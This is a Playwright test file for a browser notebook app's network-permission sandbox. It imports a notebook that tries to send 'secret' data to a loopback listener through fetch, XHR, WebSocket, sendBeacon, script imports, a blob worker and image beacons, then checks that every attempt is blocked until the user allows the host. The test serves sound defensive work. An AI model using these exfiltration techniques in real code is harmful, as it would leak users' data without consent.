import { createHash } from 'node:crypto';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Duplex } from 'node:stream';
import { expect, test } from '@playwright/test';
import { codeCell, openNotebook, waitForCellState, waitForKernelIdle } from './helpers';
import { codeCellJson, ipynbFile, markdownCellJson, notebookJson } from './notebook-json';

/** What reached the listener: one line per HTTP request or websocket upgrade. */
interface Received {
  kind: 'http' | 'websocket';
  method: string;
  path: string;
  body: string;
}

/**
 * A server on loopback, another origin than the app's (another port): it answers every request
 * with CORS and CORP headers, so nothing but the app's own policy can stop a request reaching
 * it, and completes websocket handshakes (RFC 6455 accept key) by hand.
 */
async function startListener(): Promise<{ server: Server; received: Received[]; port: number }> {
  const received: Received[] = [];
  const server = createServer((req: IncomingMessage, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      received.push({
        kind: 'http',
        method: req.method ?? '',
        path: req.url ?? '',
        body: Buffer.concat(chunks).toString('utf8'),
      });
      res.writeHead(req.method === 'OPTIONS' ? 204 : 200, {
        'Access-Control-Allow-Origin': '*',
        'Access-Control-Allow-Methods': 'GET, POST',
        'Access-Control-Allow-Headers': '*',
        'Cross-Origin-Resource-Policy': 'cross-origin',
        'Content-Type': 'text/javascript',
      });
      res.end(req.method === 'OPTIONS' ? undefined : 'listener-reply');
    });
  });
  server.on('upgrade', (req: IncomingMessage, socket: Duplex) => {
    received.push({ kind: 'websocket', method: 'GET', path: req.url ?? '', body: '' });
    const key = String(req.headers['sec-websocket-key'] ?? '');
    const accept = createHash('sha1')
      .update(`${key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
      .digest('base64');
    socket.write(
      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
    );
    socket.on('error', () => {});
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, received, port: (server.address() as AddressInfo).port };
}

/**
 * Each attempt is written as a line `name: sent` or `name: <error>`; a cell never throws, so
 * Run all goes through them all. The kernel's own globals are tried first, then the same
 * requests from a blob: worker the cell starts, where no check of the kernel's wraps them: only
 * the browser's policy stands between that code and the listener.
 */
function exfiltrationCell(base: string): string {
  const ws = base.replace('http:', 'ws:');
  return `
const out = [];
async function attempt(name, send) {
  try { await send(); out.push(name + ': sent'); }
  catch (e) { out.push(name + ': ' + (e && e.message)); }
}
await attempt('get', () => fetch('${base}/get?secret=42'));
await attempt('post', () => fetch('${base}/post', { method: 'POST', body: 'secret-body' }));
await attempt('no-cors', () => fetch('${base}/no-cors', { mode: 'no-cors' }));
await attempt('sync-xhr', () => { const x = new XMLHttpRequest(); x.open('GET', '${base}/xhr', false); x.send(); });
await attempt('websocket', () => new Promise((ok, fail) => {
  const w = new WebSocket('${ws}/ws');
  w.onopen = ok; w.onerror = () => fail(new Error('websocket failed'));
}));
await attempt('import', () => import('${base}/import.js'));
await attempt('importScripts', () => importScripts('${base}/classic.js'));
await attempt('sendBeacon', () => {
  if (typeof navigator.sendBeacon !== 'function') throw new Error('no sendBeacon in a worker');
  navigator.sendBeacon('${base}/beacon', 'secret');
});
const raw = \`
  const tries = [
    ['raw-get', () => fetch('${base}/raw-get')],
    ['raw-post', () => fetch('${base}/raw-post', { method: 'POST', body: 'raw-secret' })],
    ['raw-no-cors', () => fetch('${base}/raw-no-cors', { mode: 'no-cors' })],
    ['raw-xhr', () => { const x = new XMLHttpRequest(); x.open('GET', '${base}/raw-xhr', false); x.send(); }],
    ['raw-websocket', () => new Promise((ok, fail) => { const w = new WebSocket('${ws}/raw-ws'); w.onopen = ok; w.onerror = () => fail(new Error('websocket failed')); })],
    ['raw-importScripts', () => importScripts('${base}/raw-classic.js')],
    ['raw-import', () => import('${base}/raw-import.js')],
  ];
  (async () => {
    const lines = [];
    for (const [name, send] of tries) {
      try { await send(); lines.push(name + ': sent'); } catch (e) { lines.push(name + ': ' + (e && e.message)); }
    }
    postMessage(lines);
  })();
\`;
const helper = new Worker(URL.createObjectURL(new Blob([raw], { type: 'text/javascript' })));
out.push(...(await new Promise((ok) => { helper.onmessage = (e) => ok(e.data); })));
helper.terminate();
out.push('attempts finished');
console.log(out.join('\\n'));
`;
}

function notebookFor(base: string) {
  const code = codeCellJson;
  return notebookJson([
    markdownCellJson(
      'm1',
      `# Exfiltration\n\n![pixel](${base}/markdown-image)\n\n<img src="${base}/markdown-html-image">`,
    ),
    {
      ...code('c0', 'display("an output saved in the file")'),
      outputs: [
        {
          output_type: 'display_data',
          metadata: {},
          data: { 'text/markdown': `<img src="${base}/saved-output-image">` },
        },
      ],
    },
    code('c1', exfiltrationCell(base)),
    code(
      'c2',
      [
        `const r = await fetch('${base}/allowed', { method: 'POST', body: 'granted-body' });`,
        "console.log('reply: ' + (await r.text()));",
        `const w = new WebSocket('${base.replace('http:', 'ws:')}/granted-ws');`,
        "await new Promise((ok, fail) => { w.onopen = ok; w.onerror = () => fail(new Error('websocket failed')); });",
        "console.log('websocket open');",
        'w.close();',
      ].join('\n'),
    ),
  ]);
}

test('a trusted notebook reaches another host only after the user allows that host', async ({
  page,
}) => {
  const { server, received, port } = await startListener();
  const host = `127.0.0.1:${port}`;
  const base = `http://${host}`;
  try {
    await openNotebook(page);
    await page
      .getByTestId('import-input')
      .setInputFiles(ipynbFile('leaky.ipynb', JSON.stringify(notebookFor(base))));
    await expect(page).toHaveURL(/#\/imported\/leaky\.ipynb$/);
    await page.getByRole('button', { name: 'Trust and allow running' }).click();
    await waitForKernelIdle(page);
    await page.getByRole('button', { name: 'Run all' }).click();
    await waitForCellState(page, 2, 'error');

    // Every way out failed: the kernel's globals with a message naming the host…
    const attempts = codeCell(page, 1).getByTestId('output-area');
    await expect(attempts).toContainText('attempts finished');
    const text = (await attempts.textContent()) ?? '';
    for (const name of ['get', 'post', 'no-cors', 'sync-xhr', 'websocket']) {
      expect(text).toContain(`${name}: This notebook may not reach ${host}`);
    }
    expect(text).not.toMatch(/: sent/);
    // …and the blocked fetch in the last cell is a typed error saying how to allow it.
    const blocked = codeCell(page, 2).getByTestId('output-area');
    await expect(blocked).toContainText('NetworkPermissionError');
    await expect(blocked).toContainText(`This notebook may not reach ${host}`);
    await expect(blocked).toContainText(`Allow ${host}`);
    // The markdown and the saved output with images are on the page, their images not loaded.
    await expect(page.getByRole('heading', { name: 'Exfiltration' })).toBeVisible();
    expect(received).toEqual([]);

    // The user allows the host in the prompt: the kernel restarts with it allowed.
    const prompt = page.getByTestId('network-prompt');
    await expect(prompt).toContainText(`This notebook wants to reach ${host}`);
    await page.screenshot({ path: test.info().outputPath('network-prompt.png') });
    await prompt.getByRole('button', { name: `Allow ${host}` }).click();
    await expect(prompt).toHaveCount(0);
    await waitForKernelIdle(page);
    await codeCell(page, 2).click();
    await codeCell(page, 2).getByRole('button', { name: '▶ Run' }).click();
    await waitForCellState(page, 2, 'done');
    await expect(codeCell(page, 2).getByTestId('output-area')).toContainText(
      'reply: listener-reply',
    );
    await expect(codeCell(page, 2).getByTestId('output-area')).toContainText('websocket open');
    expect(received.filter((r) => r.method !== 'OPTIONS')).toEqual([
      { kind: 'http', method: 'POST', path: '/allowed', body: 'granted-body' },
      { kind: 'websocket', method: 'GET', path: '/granted-ws', body: '' },
    ]);

    // The storage page lists the grant; revoking it blocks the host again.
    await page.getByRole('link', { name: 'Your data & storage' }).click();
    const grants = page.getByTestId('network-grants');
    await expect(grants).toContainText('imported/leaky.ipynb');
    await expect(grants).toContainText(host);
    await page.screenshot({ path: test.info().outputPath('network-grants.png'), fullPage: true });
    await page.getByRole('button', { name: `Revoke ${host} for imported/leaky.ipynb` }).click();
    await expect(page.getByTestId('network-grants-empty')).toBeVisible();
    await page.goBack();
    await waitForKernelIdle(page);
    await codeCell(page, 2).click();
    await codeCell(page, 2).getByRole('button', { name: '▶ Run' }).click();
    await waitForCellState(page, 2, 'error');
    await expect(codeCell(page, 2).getByTestId('output-area')).toContainText(
      `This notebook may not reach ${host}`,
    );
    // Deny puts the question away; the host stays blocked.
    await page.getByTestId('network-prompt').getByRole('button', { name: 'Deny' }).click();
    await expect(page.getByTestId('network-prompt')).toHaveCount(0);
    expect(received.filter((r) => r.method !== 'OPTIONS')).toHaveLength(2);
  } finally {
    server.close();
  }
});
